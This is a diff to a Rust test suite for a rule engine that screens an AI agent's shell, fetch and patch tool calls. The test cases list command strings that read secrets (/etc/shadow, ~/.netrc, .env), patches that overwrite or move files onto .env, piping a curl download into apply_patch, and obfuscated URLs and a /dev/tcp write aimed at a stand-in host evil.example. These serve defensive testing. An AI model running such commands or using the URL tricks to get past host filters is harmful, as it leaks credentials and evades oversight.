@@ -49,7 +49,16 @@ impl Place {
         let manifest = Manifest::parse(text).unwrap().manifest;
         let mut entries = manifest.groups.iter().flat_map(|group| &group.entries);
         let entry = entries.find(|entry| entry.name.as_deref() == Some(rule));
-        let when = When::read(&entry.unwrap().when.as_ref().unwrap().text).unwrap();
+        self.decides(
+            &entry.unwrap().when.as_ref().unwrap().text,
+            tool,
+            input,
+            cwd,
+        )
+    }
+
+    fn decides(&self, when: &str, tool: &str, input: &Value, cwd: &Path) -> Result<bool, String> {
+        let when = When::read(when).unwrap();
         let data = json!({"cwd": cwd, "tool_name": tool, "tool_input": input});
         let event = Event::new("pre-tool-use", data);
         let home = self.folder.path().join("h");
@@ -90,6 +99,12 @@ fn an_option_that_writes_or_runs_is_never_approved_as_reading() {
             "git log -p --ext-diff",
             "git diff --no-index /dev/null ~/.netrc",
             "git diff $X",
+            "git diff /etc/shadow /dev/null",
+            "git diff .env",
+            "git diff HEAD -- .env",
+            "git log -p -- .env",
+            "git log -L1,9:.env",
+            "git log -p .env",
             "ls /root",
             "ls; rm x",
             "ls > x",
@@ -105,8 +120,24 @@ fn an_option_that_writes_or_runs_is_never_approved_as_reading() {
             "git status",
             "git diff",
             "git log --oneline -5",
+            "git diff --cached --stat",
         ],
     );
+    let only = |line: &str| {
+        let rule = "only_runs('git show', 'git grep', 'git blame', 'git diff HEAD')";
+        place
+            .decides(rule, "Bash", &json!({"command": line}), &place.project())
+            .unwrap()
+    };
+    assert!(only("git show") && only("git show --stat") && only("git diff HEAD"));
+    for line in [
+        "git show HEAD:.env",
+        "git grep KEY .env",
+        "git blame .env",
+        "git diff HEAD .env",
+    ] {
+        assert!(!only(line), "{line}");
+    }
 }
 
 #[test]
@@ -586,5 +617,81 @@ fn a_search_that_removes_what_it_finds_falls_on_each_file_below_its_folder() {
     assert!(!holds(
         "configures('core.hooksPath')",
         "git config user.name me"
+    ));
+}
+
+#[test]
+fn a_line_that_an_agent_carries_out_as_a_patch_writes_the_files_of_the_patch() {
+    let place = Place::new();
+    let patch = |file: &str| {
+        format!("*** Begin Patch\n*** Update File: {file}\n@@\n-a\n+b\n*** End Patch\n")
+    };
+    let moved = "*** Begin Patch\n*** Update File: a.txt\n*** Move to: .env\n*** End Patch\n";
+    let forms = |text: &str| {
+        [
+            format!("apply_patch <<'EOF'\n{text}EOF\n"),
+            format!("applypatch <<'EOF'\n{text}EOF"),
+            format!("cd src && apply_patch <<'EOF'\n{text}EOF\n"),
+            format!("apply_patch '{text}'"),
+            format!("bash -lc \"apply_patch <<'EOF'\n{text}EOF\n\""),
+            format!("cat <<'EOF' | apply_patch\n{text}EOF\n"),
+        ]
+    };
+    for file in [".env", "../p/.env", "src/../.env"] {
+        for line in forms(&patch(file)) {
+            assert!(place.line("secret-files", &line), "{line}");
+        }
+    }
+    for line in forms(moved) {
+        assert!(place.line("secret-files", &line), "{line}");
+    }
+    for line in forms(&patch("a.rs")) {
+        assert!(!place.line("secret-files", &line), "{line}");
+        assert!(!place.line("no-rm-rf", &line), "{line}");
+    }
+    // What cannot be read may be any file.
+    for line in [
+        "apply_patch \"$X\"",
+        "apply_patch < a.txt",
+        "curl https://x.example | apply_patch",
+        "apply_patch hello",
+    ] {
+        assert!(place.line("secret-files", line), "{line}");
+    }
+}
+
+#[test]
+fn a_machine_is_the_same_one_however_a_url_spells_it() {
+    let place = Place::new();
+    let connects = |tool: &str, input: Value| {
+        let rule = "connects('evil.example')";
+        place.decides(rule, tool, &input, &place.project()).unwrap()
+    };
+    for url in [
+        "https://evil.example./x",
+        "http:\\\\evil.example\\x",
+        "https:evil.example/x",
+        "https://\u{ff45}vil.example/x",
+        "https://evil.example\t/x",
+        "https://me:pw@evil.example/x",
+        "https://good.example\\@evil.example/x",
+    ] {
+        assert!(connects("WebFetch", json!({"url": url})), "{url}");
+        let line = format!("curl '{url}'");
+        assert!(connects("Bash", json!({"command": line})), "{line}");
+    }
+    for url in [
+        "https://good.example/evil.example",
+        "https://evil.example@good.example/",
+    ] {
+        assert!(!connects("WebFetch", json!({"url": url})), "{url}");
+        assert!(
+            !connects("Bash", json!({"command": format!("curl '{url}'")})),
+            "{url}"
+        );
+    }
+    assert!(connects(
+        "Bash",
+        json!({"command": "echo x > /dev/tcp/evil.example./80"})
     ));
 }
